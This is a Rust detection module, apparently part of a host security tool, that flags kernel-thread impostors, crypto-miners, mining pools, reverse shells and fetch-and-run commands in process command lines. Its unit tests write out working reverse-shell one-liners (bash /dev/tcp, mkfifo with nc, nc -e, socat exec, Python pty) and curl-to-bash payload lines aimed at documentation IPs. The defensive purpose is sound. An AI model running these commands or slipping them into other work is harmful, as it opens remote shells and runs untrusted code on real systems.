//! Words that tell on a program: kernel threads' names, shells, miners. It looks at words, not at programs.

/// Names that only the kernel gives, by their beginning.
#[rustfmt::skip]
const KERNEL_NAMES: &[&str] = &[
    "cpuhp/", "idle_inject/", "irq/", "jbd2/", "kcompactd", "kdevtmpfs", "khugepaged", "khungtaskd",
    "kintegrityd", "kblockd", "ksoftirqd/", "kswapd", "kthreadd", "kworker/", "migration/", "oom_reaper",
    "rcu_", "scsi_eh_", "watchdogd", "kauditd", "ksmd",
];

/// Programs that people type commands into.
#[rustfmt::skip]
const SHELLS: &[&str] = &[
    "ash", "bash", "busybox", "csh", "dash", "fish", "ksh", "mksh", "pwsh", "rbash", "sh", "tcsh", "zsh",
];

/// Programs that read program text; a version may follow the name.
#[rustfmt::skip]
const INTERPRETERS: &[&str] = &[
    "awk", "gawk", "lua", "mawk", "nc", "ncat", "node", "perl", "php", "python", "ruby", "socat", "tclsh",
];

/// Programs that only look at words, or pass them on to another process.
#[rustfmt::skip]
const READERS: &[&str] = &[
    "ack", "ag", "apropos", "awk", "bat", "cat", "chroot", "chrt", "doas", "ed", "egrep", "emacs", "env",
    "fgrep", "find", "gawk", "git", "grep", "head", "ionice", "journalctl", "less", "locate", "man", "more",
    "nano", "nice", "nohup", "nvim", "rg", "script", "sed", "setsid", "ssh", "stdbuf", "strace", "strings",
    "sudo", "tail", "taskset", "time", "timeout", "tmux", "unshare", "vi", "view", "vim", "watch", "xargs",
];

/// Names of miners, as the first word of a command line.
#[rustfmt::skip]
const MINERS: &[&str] = &[
    "bfgminer", "ccminer", "cgminer", "cpuminer", "cpuminer-multi", "ethminer", "gminer", "kdevtmpfsi",
    "kinsing", "lolminer", "minerd", "nbminer", "phoenixminer", "srbminer-multi", "t-rex", "teamredminer",
    "wildrig-multi", "xmr-stak", "xmrig", "xmrig-daemon", "xmrigdaemon",
];

/// Hosts of mining pools, by a part of their name.
#[rustfmt::skip]
const POOLS: &[&str] = &[
    "2miners.com", "c3pool.", "ethermine.org", "f2pool.com", "hashvault.pro", "herominers.com",
    "minergate.com", "minexmr.com", "moneroocean.stream", "nanopool.org", "nicehash.com", "supportxmr.com",
    "unmineable.com", "xmrpool.",
];

/// Tells a command line that is a kernel thread's name in brackets and nothing else.
pub(super) fn is_bracketed(line: &str) -> bool {
    if !line.starts_with('[') {
        return false;
    }
    let Some(inner) = line.trim_end().strip_prefix('[').and_then(|rest| rest.strip_suffix(']')) else {
        // `exec -a '[kworker/0:1]' sleep 300` keeps the other words.
        let first = line.split(' ').next().unwrap_or_default();
        return first.strip_prefix('[').and_then(|rest| rest.strip_suffix(']')).is_some_and(is_kernel_name);
    };
    !inner.is_empty() && !inner.contains([']', ' '])
}

/// Tells the names of kernel threads.
pub(super) fn is_kernel_name(name: &str) -> bool {
    // Nearly every name ends here.
    if !name.starts_with(['c', 'i', 'j', 'k', 'm', 'o', 'r', 's', 'w']) {
        return false;
    }
    KERNEL_NAMES.iter().any(|start| {
        name.strip_prefix(start).is_some_and(|rest| {
            start.ends_with(['/', '_']) || rest.is_empty() || rest.bytes().all(|byte| byte.is_ascii_digit())
        })
    })
}

/// Tells shells by the kernel's short name.
pub(super) fn is_shell(name: &str) -> bool {
    SHELLS.binary_search(&name.trim_start_matches('-')).is_ok()
}

/// Tells interpreters by the kernel's short name: `python3.11`, `perl`.
pub(super) fn is_interpreter(name: &str) -> bool {
    let plain = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.binary_search(&plain).is_ok()
}

/// Tells programs that only look at words: `grep xmrig` is no miner.
pub(super) fn is_reader(name: &str) -> bool {
    READERS.binary_search(&name).is_ok() || is_shell(name)
}

/// The word of a command line that gives a miner away.
pub(super) fn miner_word(line: &str) -> Option<&str> {
    // Nearly every command line ends here.
    let first = line.split(' ').next().unwrap_or_default();
    let base = first.rsplit('/').next().unwrap_or(first);
    if base.len() <= 20 && MINERS.binary_search(&base.to_ascii_lowercase().as_str()).is_ok() {
        return Some(base);
    }
    // All that follows has the one or the other in it.
    if memchr::memchr2(b':', b'+', line.as_bytes()).is_none() && !line.contains("--donate-level") {
        return None;
    }
    line.split(' ').skip(1).find(|word| {
        let protocol = ["stratum+", "stratum2+", "stratum1+"].iter().any(|name| word.contains(name));
        let option = *word == "--donate-level" || word.starts_with("--donate-level=");
        // Miners name a port; who looks a pool up in a browser or with `dig` does not.
        let has_port = word.rsplit_once(':').is_some_and(|(_, port)| port.parse::<u16>().is_ok());
        let pool = has_port && !word.starts_with('/') && POOLS.iter().any(|pool| word.contains(pool));
        protocol || option || pool
    })
}

/// Programs and words that only lead to the program that is meant.
#[rustfmt::skip]
const LEADERS: &[&str] = &[
    "chroot", "chrt", "command", "do", "doas", "elif", "else", "env", "exec", "flock", "if", "ionice", "nice",
    "nohup", "runuser", "setsid", "stdbuf", "su", "sudo", "taskset", "then", "time", "timeout", "unshare", "until",
    "while",
];

/// The paths that a command line starts: its program, what its interpreter or shell is told to run, and the first
/// words of the parts of a shell's text.
pub(super) fn started(line: &str) -> Vec<&str> {
    let mut paths = Vec::new();
    for part in line.split([';', '&', '|', '(', ')', '`', '{', '}']) {
        for word in part.split([' ', '\t', '"', '\'']).filter(|word| !word.is_empty()) {
            if word.starts_with('/') {
                paths.push(word);
            }
            let name = word.rsplit('/').next().unwrap_or(word);
            let leads = word.starts_with('-')
                || word.contains('=')
                || LEADERS.binary_search(&name).is_ok()
                || is_shell(name)
                || is_interpreter(name);
            if !leads {
                break;
            }
        }
    }
    paths
}

/// What a shell's text does that no honest service does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Trick {
    /// Ties a shell to a connection.
    RemoteShell,
    /// Runs what it fetches or unpacks from a disguise.
    FetchAndRun,
}

/// The trick in a command line.
pub(super) fn shell_trick(line: &str) -> Option<Trick> {
    let has = |words: &[&str]| words.iter().any(|word| line.contains(word));
    let connects = has(&["/dev/tcp/", "/dev/udp/"]);
    let interactive = has(&["sh -i", "0>&1", "<&1", "0<&", "<&3", "<&5", ">&5", ">&3"]);
    let handed = has(&["nc -e ", "nc -c ", "ncat -e ", "ncat -c ", "ncat --exec", "ncat --sh-exec"])
        || line.contains("socat ") && has(&["exec:", "EXEC:", "system:", "SYSTEM:"])
        || line.contains("socket.socket") && has(&["os.dup2", "pty.spawn", "subprocess."])
        || has(&["mkfifo "]) && has(&["nc ", "ncat ", "openssl s_client", "telnet "]);
    if connects && interactive || handed {
        return Some(Trick::RemoteShell);
    }
    let piped = line.split('|').skip(1).any(|part| {
        let first =
            part.trim_start().trim_start_matches("sudo ").split([' ', '"', '\'']).next().unwrap_or_default();
        let name = first.rsplit('/').next().unwrap_or(first);
        is_shell(name) || is_interpreter(name) && !["awk", "gawk", "mawk", "nc", "ncat"].contains(&name)
    });
    let brought =
        has(&["curl ", "wget ", "base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d"]);
    let fetched = ["$(curl ", "$(wget ", "`curl ", "`wget ", "<(curl ", "<(wget "];
    (brought && piped || has(&fetched) && has(&["sh -c", "eval ", "bash <(", "sh <("]))
        .then_some(Trick::FetchAndRun)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lists_are_sorted_for_the_search() {
        for list in [SHELLS, INTERPRETERS, READERS, MINERS, LEADERS] {
            assert!(list.is_sorted(), "{list:?}");
        }
    }

    #[test]
    fn kernel_names_are_told_from_those_that_only_begin_alike() {
        for name in
            ["kworker/u8:2", "ksoftirqd/0", "kswapd0", "kthreadd", "rcu_sched", "jbd2/sda1-8", "migration/3"]
        {
            assert!(is_kernel_name(name), "{name}");
        }
        for name in [
            "kwin_x11",
            "kded5",
            "ksmtuned",
            "ksmd-stat",
            "kdeconnectd",
            "irqbalance",
            "kswapd-log",
            "watchdog",
        ] {
            assert!(!is_kernel_name(name), "{name}");
        }
        for line in ["[kworker/0:1]", "[kworker/0:1] 300", "[anything]"] {
            assert!(is_bracketed(line), "{line}");
        }
        for line in
            ["[celeryd: worker@host:MainProcess] -active- (worker)", "[", "[ -f x ]", "[]", "test [a]", ""]
        {
            assert!(!is_bracketed(line), "{line}");
        }
    }

    #[test]
    fn miners_are_told_from_those_who_read_about_them() {
        for line in [
            "xmrig 60 -- --donate-level 1",
            "/tmp/XMRig -o pool:3333",
            "./a -o stratum+tcp://198.51.100.1:3333 -u x",
            "./a --url=stratum+ssl://example.org:443",
            "python3 x.py --donate-level=1",
            "./m -o gulf.moneroocean.stream:10128",
        ] {
            assert!(miner_word(line).is_some(), "{line}");
        }
        for line in [
            "/usr/bin/sleep 60",
            "firefox https://example.org",
            "vim /home/anna/nanopool.org/notes",
            "chromium https://www.nanopool.org/faq",
            "dig +short pool.supportxmr.com",
            "minerva",
            "",
        ] {
            let by_reader = is_reader(line.split(' ').next().unwrap_or_default());
            assert!(miner_word(line).is_none() || by_reader, "{line}");
        }
        assert!(is_reader("grep") && is_reader("bash") && !is_reader("python3"));
    }

    #[test]
    fn what_a_command_line_starts_is_found_behind_shells_and_in_their_text() {
        for (line, paths) in [
            ("/usr/sbin/sshd -D -f /tmp/config", &["/usr/sbin/sshd"][..]),
            ("/bin/sh -c '/tmp/x --now; cat /tmp/log'", &["/bin/sh", "/tmp/x"]),
            ("/usr/bin/env A=/tmp/a python3 -u /dev/shm/x.py /tmp/out", &["/usr/bin/env", "/dev/shm/x.py"]),
            ("/bin/bash -c \"cp /a /tmp/b && exec /tmp/b\"", &["/bin/bash", "/tmp/b"]),
            ("/usr/bin/java -jar /opt/app.jar", &["/usr/bin/java"]),
            ("cron", &[]),
        ] {
            assert_eq!(started(line), paths, "{line}");
        }
    }

    #[test]
    fn tricks_of_shells_are_told_from_what_scripts_do() {
        for line in [
            "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
            "/bin/sh -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f'",
            "/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
            "/usr/bin/socat tcp:203.0.113.9:4444 exec:/bin/sh,pty",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        ] {
            assert_eq!(shell_trick(line), Some(Trick::RemoteShell), "{line}");
        }
        for line in [
            "/bin/sh -c 'curl -fsSL http://203.0.113.9/x | bash'",
            "sh -c 'echo aGk= | base64 -d | sh'",
            "bash -c \"wget -qO- http://x/y | sudo python3\"",
            "bash <(curl -s http://x)",
        ] {
            assert_eq!(shell_trick(line), Some(Trick::FetchAndRun), "{line}");
        }
        for line in [
            "/bin/bash -c 'until (echo > /dev/tcp/localhost/5432); do sleep 1; done'",
            "/bin/sh -c 'curl -fs http://localhost/health | grep ok'",
            "/usr/bin/curl -m 10 https://hc-ping.com/x",
            "/bin/sh -c 'pg_dump app | gzip > /backup/app.gz'",
            "/usr/sbin/sshd -D",
        ] {
            assert_eq!(shell_trick(line), None, "{line}");
        }
    }
}
